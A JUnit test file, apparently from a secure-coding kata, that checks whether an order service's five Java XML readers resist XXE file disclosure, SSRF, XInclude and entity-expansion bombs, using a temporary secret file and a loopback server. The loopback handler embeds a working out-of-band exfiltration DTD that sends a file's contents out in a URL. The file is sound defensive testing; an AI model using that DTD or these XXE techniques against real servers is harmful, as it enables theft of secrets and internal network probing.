package dev.rampart.kata.xxe;

import static java.nio.charset.StandardCharsets.UTF_8;
import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;
import static org.assertj.core.api.Assertions.fail;
import static org.junit.jupiter.api.Assertions.assertTimeoutPreemptively;

import com.sun.net.httpserver.HttpServer;
import dev.rampart.kata.support.AttackFamily;
import dev.rampart.kata.support.Leaks;
import dev.rampart.kata.support.PayloadFile;
import java.io.ByteArrayInputStream;
import java.io.IOException;
import java.lang.management.ManagementFactory;
import java.net.InetAddress;
import java.net.InetSocketAddress;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.Collections;
import java.util.List;
import java.util.regex.Matcher;
import java.util.regex.Pattern;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;

/**
 * Attacks on the order service's five XML readers: DOM ({@code read}), SAX ({@code readAll}),
 * StAX ({@code customers}), the schema check ({@code problems}) and the XSLT packing slip
 * ({@code packingSlip}). Every attack family runs against each reader it can reach, because a
 * fix that hardens one parser leaves the other four as they were.
 *
 * <p>The attacker's world, rebuilt for every case:
 * <ul>
 * <li>a secret file in a temporary folder, {@code db.password=<random>}: the file an external
 *     entity or an XInclude tries to copy into what the service answers. The oracle measures how
 *     much of the random secret the answer, the refusal's message, or any request that reached
 *     the loopback server gives away ({@link Leaks});</li>
 * <li>an HTTP server on 127.0.0.1 that records every request: the stand-in for the internal
 *     services an entity could make the server call (SSRF). Any request at all is a hit; the
 *     answer it serves is a harmless empty DTD, or, at {@code /exfil.dtd}, the out-of-band DTD
 *     that sends the file's contents back in a URL.</li>
 * </ul>
 *
 * <p>Payload placeholders: {@code {file}} is the secret's {@code file:} URI, {@code {path}} its
 * bare absolute path, {@code {http}} the loopback server's base URL, and {@code {N*text}} is
 * {@code text} written N times (the entity bombs are too long to write out).
 *
 * <p>Entity bombs: the JDK bounds entity expansion by default (since JDK 24 to 100,000
 * characters; JDK 17 allows 50,000,000). The starter lifts those limits for its large feeds, but
 * the textbook billion laughs is still stopped by a limit it leaves alone (the number of nodes
 * entities produce), so the suite does not use it. The bombs here expand to five million
 * characters, under the JDK 17 limits and far over what one order needs, yet small enough for a
 * vulnerable reader to survive them in a lesson kernel's heap. The oracle is the
 * memory the call allocates (the JVM counts it per thread), bounded at {@value #ALLOCATION_BOUND_MB}
 * MB, after a warm-up call with an honest order; the time is only bounded by a generous safety net.
 */
class OrderImportTest {

    /** An honest order allocates well under one megabyte; a bomb here, tens of megabytes or more. */
    static final int ALLOCATION_BOUND_MB = 12;

    private static final String HONEST = "<order id=\"PO-1\"><customer>Acme Tools</customer><line sku=\"HAM-16\" qty=\"2\"/></order>";
    private static final Pattern REPEAT = Pattern.compile("\\{(\\d+)\\*([^}]*)}");
    private static final String NO_DOCTYPE = "refuse any document that carries a DOCTYPE, in every parser the upload reaches "
            + "(DOM, SAX, StAX, and the parsers behind the Validator and the Transformer): no DTD, no entity";

    @TempDir
    Path tmp;

    private String secret;
    private Path secretFile;
    private HttpServer loopback;
    private final List<String> requests = Collections.synchronizedList(new ArrayList<>());
    private OrderImport orders;

    /** The five readers, each run the way the service runs it, with what it answers as text. */
    enum Reader {
        DOM("read (DOM)") {
            @Override
            String answer(OrderImport orders, byte[] xml) throws InvalidOrderException {
                return orders.read(xml).toString();
            }
        },
        SAX("readAll (SAX)") {
            @Override
            String answer(OrderImport orders, byte[] xml) throws InvalidOrderException {
                return orders.readAll(new ByteArrayInputStream(xml)).toString();
            }
        },
        STAX("customers (StAX)") {
            @Override
            String answer(OrderImport orders, byte[] xml) throws InvalidOrderException {
                return orders.customers(new ByteArrayInputStream(xml)).toString();
            }
        },
        SCHEMA("problems (the schema Validator)") {
            @Override
            String answer(OrderImport orders, byte[] xml) throws InvalidOrderException {
                return orders.problems(xml).toString();
            }
        },
        XSLT("packingSlip (the XSLT Transformer)") {
            @Override
            String answer(OrderImport orders, byte[] xml) throws InvalidOrderException {
                return orders.packingSlip(xml);
            }
        };

        private final String label;

        Reader(String label) {
            this.label = label;
        }

        abstract String answer(OrderImport orders, byte[] xml) throws InvalidOrderException;
    }

    @BeforeEach
    void buildWorld() throws IOException {
        secret = Leaks.randomSecret(24);
        secretFile = Files.writeString(tmp.resolve("secret.txt"), "db.password=" + secret);
        loopback = HttpServer.create(new InetSocketAddress(InetAddress.getLoopbackAddress(), 0), 0);
        loopback.createContext("/", exchange -> {
            requests.add(exchange.getRequestURI().toString());
            byte[] body = exchange.getRequestURI().getPath().equals("/exfil.dtd")
                    ? ("<!ENTITY % all \"<!ENTITY send SYSTEM '" + http() + "/collect?%file;'>\">%all;").getBytes(UTF_8)
                    : new byte[0];
            exchange.sendResponseHeaders(200, body.length == 0 ? -1 : body.length);
            exchange.getResponseBody().write(body);
            exchange.close();
        });
        loopback.start();
        orders = new OrderImport();
    }

    @AfterEach
    void stopLoopback() {
        loopback.stop(0);
    }

    // File disclosure: an external entity copies a file of the server into the answer.

    @AttackFamily("an external entity copies a server file into the order that read (DOM) returns")
    @PayloadFile("xxe/file-disclosure.txt")
    void fileThroughDom(String payload) {
        assertNothingReachedOut(Reader.DOM, payload, NO_DOCTYPE);
    }

    @AttackFamily("an external entity copies a server file into the orders that readAll (SAX) returns")
    @PayloadFile("xxe/file-disclosure.txt")
    void fileThroughSax(String payload) {
        assertNothingReachedOut(Reader.SAX, payload, NO_DOCTYPE);
    }

    @AttackFamily("an external entity copies a server file into the customers that customers (StAX) returns")
    @PayloadFile("xxe/file-disclosure.txt")
    void fileThroughStax(String payload) {
        assertNothingReachedOut(Reader.STAX, payload, NO_DOCTYPE);
    }

    @AttackFamily("an external entity copies a server file into the schema problems sent back to the partner")
    @PayloadFile("xxe/file-disclosure.txt")
    void fileThroughSchema(String payload) {
        assertNothingReachedOut(Reader.SCHEMA, payload, NO_DOCTYPE);
    }

    @AttackFamily("an external entity copies a server file onto the packing slip (XSLT)")
    @PayloadFile("xxe/file-disclosure.txt")
    void fileThroughXslt(String payload) {
        assertNothingReachedOut(Reader.XSLT, payload, NO_DOCTYPE);
    }

    // SSRF: an external DTD or entity makes the server send a request where the attacker says.

    @AttackFamily("an external DTD or entity makes read (DOM) send a request to an internal server")
    @PayloadFile("xxe/ssrf.txt")
    void ssrfThroughDom(String payload) {
        assertNothingReachedOut(Reader.DOM, payload, NO_DOCTYPE);
    }

    @AttackFamily("an external DTD or entity makes readAll (SAX) send a request to an internal server")
    @PayloadFile("xxe/ssrf.txt")
    void ssrfThroughSax(String payload) {
        assertNothingReachedOut(Reader.SAX, payload,
                "turning external entities off is not enough: the external DTD is still fetched; " + NO_DOCTYPE);
    }

    @AttackFamily("an external DTD or entity makes customers (StAX) send a request to an internal server")
    @PayloadFile("xxe/ssrf.txt")
    void ssrfThroughStax(String payload) {
        assertNothingReachedOut(Reader.STAX, payload,
                "StAX fetches the external DTD even without external entities: turn DTD support off");
    }

    @AttackFamily("an external DTD or entity makes the schema check send a request to an internal server")
    @PayloadFile("xxe/ssrf.txt")
    void ssrfThroughSchema(String payload) {
        assertNothingReachedOut(Reader.SCHEMA, payload, NO_DOCTYPE);
    }

    @AttackFamily("an external DTD or entity makes the packing slip (XSLT) send a request to an internal server")
    @PayloadFile("xxe/ssrf.txt")
    void ssrfThroughXslt(String payload) {
        assertNothingReachedOut(Reader.XSLT, payload, NO_DOCTYPE);
    }

    // XInclude: needs no DOCTYPE at all.

    @AttackFamily("an XInclude pulls a server file or an internal URL into the order that read (DOM) returns")
    @PayloadFile("xxe/xinclude.txt")
    void xincludeThroughDom(String payload) {
        assertNothingReachedOut(Reader.DOM, payload,
                "XInclude needs no DOCTYPE and ignores the accessExternal* properties: leave the parser unaware of XInclude");
    }

    // Entity bombs: internal entities that expand a few kilobytes into megabytes.

    @AttackFamily("nested or repeated entities blow a small order up in read (DOM)")
    @PayloadFile("xxe/entity-expansion.txt")
    void bombThroughDom(String payload) {
        assertBounded(Reader.DOM, payload);
    }

    @AttackFamily("nested or repeated entities blow a small feed up in readAll (SAX)")
    @PayloadFile("xxe/entity-expansion.txt")
    void bombThroughSax(String payload) {
        assertBounded(Reader.SAX, payload);
    }

    @AttackFamily("nested or repeated entities blow a small feed up in customers (StAX)")
    @PayloadFile("xxe/entity-expansion.txt")
    void bombThroughStax(String payload) {
        assertBounded(Reader.STAX, payload);
    }

    @AttackFamily("nested or repeated entities blow a small order up in the schema check")
    @PayloadFile("xxe/entity-expansion.txt")
    void bombThroughSchema(String payload) {
        assertBounded(Reader.SCHEMA, payload);
    }

    @AttackFamily("nested or repeated entities blow a small order up in the packing slip (XSLT)")
    @PayloadFile("xxe/entity-expansion.txt")
    void bombThroughXslt(String payload) {
        assertBounded(Reader.XSLT, payload);
    }

    // Honest use: every reader keeps reading ordinary orders.

    @ParameterizedTest(name = "read (DOM) reads {0}")
    @PayloadFile("xxe/legitimate-orders.txt")
    void domReadsHonestOrders(String xml, String id, String customer, String lines) throws InvalidOrderException {
        assertThat(orders.read(xml.getBytes(UTF_8)))
                .as("read must return the order as written")
                .isEqualTo(new Order(id, customer, lines(lines)));
    }

    @ParameterizedTest(name = "readAll (SAX) reads {0}")
    @PayloadFile("xxe/legitimate-orders.txt")
    void saxReadsHonestOrders(String xml, String id, String customer, String lines) throws InvalidOrderException {
        assertThat(orders.readAll(new ByteArrayInputStream(xml.getBytes(UTF_8))))
                .as("readAll must return the one order as written")
                .containsExactly(new Order(id, customer, lines(lines)));
    }

    @ParameterizedTest(name = "customers (StAX) reads {0}")
    @PayloadFile("xxe/legitimate-orders.txt")
    void staxReadsHonestOrders(String xml, String id, String customer, String lines) throws InvalidOrderException {
        assertThat(orders.customers(new ByteArrayInputStream(xml.getBytes(UTF_8))))
                .as("customers must return the customer as written")
                .containsExactly(customer);
    }

    @ParameterizedTest(name = "problems finds none in {0}")
    @PayloadFile("xxe/legitimate-orders.txt")
    void schemaAcceptsHonestOrders(String xml, String id, String customer, String lines) throws InvalidOrderException {
        assertThat(orders.problems(xml.getBytes(UTF_8)))
                .as("a valid order has no problems")
                .isEmpty();
    }

    @ParameterizedTest(name = "packingSlip prints {0}")
    @PayloadFile("xxe/legitimate-orders.txt")
    void slipPrintsHonestOrders(String xml, String id, String customer, String lines) throws InvalidOrderException {
        var expected = new StringBuilder("Order " + id + "\nCustomer: " + customer + "\n");
        lines(lines).forEach(line -> expected.append(line.quantity()).append(" x ").append(line.sku()).append('\n'));
        assertThat(orders.packingSlip(xml.getBytes(UTF_8)))
                .as("the packing slip lists the order as written")
                .isEqualTo(expected.toString());
    }

    @Test
    void aFeedOfManyOrdersIsReadInOrder() throws InvalidOrderException {
        // Indented as exports are: the text between elements belongs to no customer.
        var feed = """
                <?xml version="1.0" encoding="UTF-8"?>
                <orders>
                  <order id="PO-1">
                    <customer>Acme Tools</customer>
                    <line sku="HAM-16" qty="2"/>
                  </order>
                  <order id="PO-2">
                    <customer>Müller &amp; Söhne</customer>
                    <line sku="NAIL-50" qty="10"/>
                    <line sku="SAW-2" qty="1"/>
                  </order>
                </orders>
                """.getBytes(UTF_8);
        assertThat(orders.readAll(new ByteArrayInputStream(feed))).containsExactly(
                new Order("PO-1", "Acme Tools", List.of(new Order.Line("HAM-16", 2))),
                new Order("PO-2", "Müller & Söhne", List.of(new Order.Line("NAIL-50", 10), new Order.Line("SAW-2", 1))));
        assertThat(orders.customers(new ByteArrayInputStream(feed))).containsExactly("Acme Tools", "Müller & Söhne");
    }

    @Test
    void elementsOutsideAnOrderAreIgnored() throws InvalidOrderException {
        var feed = ("<orders><customer>Nobody</customer><line sku=\"STRAY-1\" qty=\"1\"/>"
                + "<order id=\"PO-1\"><customer>Acme Tools</customer><line sku=\"HAM-16\" qty=\"2\"/></order>"
                + "<line sku=\"STRAY-2\" qty=\"1\"/></orders>").getBytes(UTF_8);
        assertThat(orders.readAll(new ByteArrayInputStream(feed)))
                .as("a customer or a line belongs to the order around it; one outside every order is no one's")
                .containsExactly(new Order("PO-1", "Acme Tools", List.of(new Order.Line("HAM-16", 2))));
    }

    @Test
    void anOrderInsideAnOrderDoesNotCrashTheFeed() throws InvalidOrderException {
        var feed = ("<orders><order id=\"PO-1\"><customer>Acme Tools</customer>"
                + "<order id=\"PO-2\"><customer>Smith</customer><line sku=\"HAM-16\" qty=\"1\"/></order>"
                + "</order></orders>").getBytes(UTF_8);
        assertThat(orders.readAll(new ByteArrayInputStream(feed)))
                .as("a strangely nested feed is read as well as it can be, not answered with a crash")
                .extracting(Order::id)
                .containsExactly("PO-2");
    }

    @Test
    void anOrderWithoutACustomerHasAnEmptyName() throws InvalidOrderException {
        var order = "<order id=\"PO-5\"><line sku=\"HAM-16\" qty=\"1\"/></order>".getBytes(UTF_8);
        assertThat(orders.read(order))
                .as("the customer is optional when reading; the schema check is what insists on it")
                .isEqualTo(new Order("PO-5", "", List.of(new Order.Line("HAM-16", 1))));
    }

    @Test
    void anInvalidOrderGetsItsProblems() throws InvalidOrderException {
        var problems = orders.problems("<order id=\"PO-3\"><customer>Acme</customer><line sku=\"ham\" qty=\"0\"/></order>".getBytes(UTF_8));
        assertThat(problems)
                .as("a lower-case SKU and a quantity of 0 break the schema, and the partner must be told what and where")
                .hasSizeGreaterThanOrEqualTo(2)
                .allSatisfy(problem -> assertThat(problem).startsWith("line 1: ").hasSizeGreaterThan("line 1: ".length()));
    }

    @Test
    void aMalformedUploadIsRefused() {
        var broken = "<order id=\"PO-4\"><customer>Acme</order>".getBytes(UTF_8);
        for (var reader : Reader.values()) {
            assertThatThrownBy(() -> reader.answer(orders, broken))
                    .as("%s must refuse a document that is not well-formed", reader.label)
                    .isInstanceOf(InvalidOrderException.class);
        }
    }

    /**
     * Sends the upload to one reader and checks that nothing left the parser: no request reached
     * the loopback server, and no run of the secret is in the answer, the refusal's message, or
     * the requests.
     */
    private void assertNothingReachedOut(Reader reader, String payload, String hint) {
        byte[] upload = fill(payload).getBytes(UTF_8);
        String answer = answer(reader, upload);
        assertThat(List.copyOf(requests))
                .as("%s sent the attacker's requests to the internal server %s; %s", reader.label, http(), hint)
                .isEmpty();
        var leak = Leaks.measure(secret, answer);
        assertThat(leak.telling())
                .as("%s gave away %d characters of the secret in %s (%s): %s; %s", reader.label, leak.length(), secretFile,
                        leak.form(), abbreviate(answer), hint)
                .isFalse();
    }

    /** Checks that one reader does not expand the bomb: the memory it allocates stays small. */
    private void assertBounded(Reader reader, String payload) {
        byte[] upload = fill(payload).getBytes(UTF_8);
        long allocated = assertTimeoutPreemptively(Duration.ofSeconds(60), () -> {
            answer(reader, HONEST.getBytes(UTF_8));
            var threads = (com.sun.management.ThreadMXBean) ManagementFactory.getThreadMXBean();
            long before = threads.getCurrentThreadAllocatedBytes();
            answer(reader, upload);
            return threads.getCurrentThreadAllocatedBytes() - before;
        }, "the parser was still expanding after a minute");
        assertThat(allocated / 1_000_000)
                .as("%s allocated %d MB to read an upload of %d bytes: its entities were expanded; %s", reader.label,
                        allocated / 1_000_000, upload.length, NO_DOCTYPE)
                .isLessThan(ALLOCATION_BOUND_MB);
    }

    /** What the partner gets back: the answer, or the refusal's messages; a crash fails the case. */
    private String answer(Reader reader, byte[] upload) {
        try {
            return reader.answer(orders, upload);
        } catch (InvalidOrderException refused) {
            var messages = new StringBuilder();
            for (Throwable t = refused; t != null; t = t.getCause()) {
                messages.append(t.getMessage()).append('\n');
            }
            return messages.toString();
        } catch (RuntimeException crash) {
            return fail("%s crashed with %s (%s): refuse a bad upload with InvalidOrderException, the partner's 400"
                    .formatted(reader.label, crash.getClass().getSimpleName(), crash.getMessage()), crash);
        }
    }

    private String fill(String payload) {
        Matcher repeat = REPEAT.matcher(payload);
        var expanded = new StringBuilder();
        while (repeat.find()) {
            repeat.appendReplacement(expanded, Matcher.quoteReplacement(repeat.group(2).repeat(Integer.parseInt(repeat.group(1)))));
        }
        repeat.appendTail(expanded);
        return expanded.toString()
                .replace("{file}", secretFile.toUri().toString())
                .replace("{path}", secretFile.toAbsolutePath().toString())
                .replace("{http}", http());
    }

    private String http() {
        return "http://127.0.0.1:" + loopback.getAddress().getPort();
    }

    /** "HAM-16:2,NAIL-50:10" as order lines. */
    private static List<Order.Line> lines(String lines) {
        return Arrays.stream(lines.split(","))
                .map(line -> line.split(":"))
                .map(parts -> new Order.Line(parts[0], Integer.parseInt(parts[1])))
                .toList();
    }

    private static String abbreviate(String text) {
        var oneLine = text.replace('\n', ' ');
        return oneLine.length() <= 300 ? oneLine : oneLine.substring(0, 300) + "...";
    }
}
